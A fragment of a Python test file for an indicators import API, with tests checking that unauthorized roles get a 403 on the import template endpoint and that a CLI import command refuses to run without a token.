            path, token=token_for(buyer), client=indicators_api.client, console=console
        )


async def test_template_is_refused_to_roles_that_never_enter_values(
    indicators_api: Api, indicators_world: IndicatorsWorld, baseline: MeasurementRound
) -> None:
    for principal in (indicators_world.world.inditex, indicators_world.world.pakistan_manager):
        response = await indicators_api.get(
            "/imports/template", params={"round_id": str(baseline.id)}, as_=principal
        )
        assert response.status_code == 403


def test_score_import_command_needs_a_token(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SCORE_TOKEN", raising=False)
    app = typer.Typer()
    app.command("import")(import_command)
    app.command("other")(lambda: None)
    path = tmp_path / "values.csv"
    path.write_bytes(csv_file(HEADER, []))
    result = CliRunner().invoke(app, ["import", str(path)])
    assert result.exit_code == 2
    assert "A token is needed" in result.output
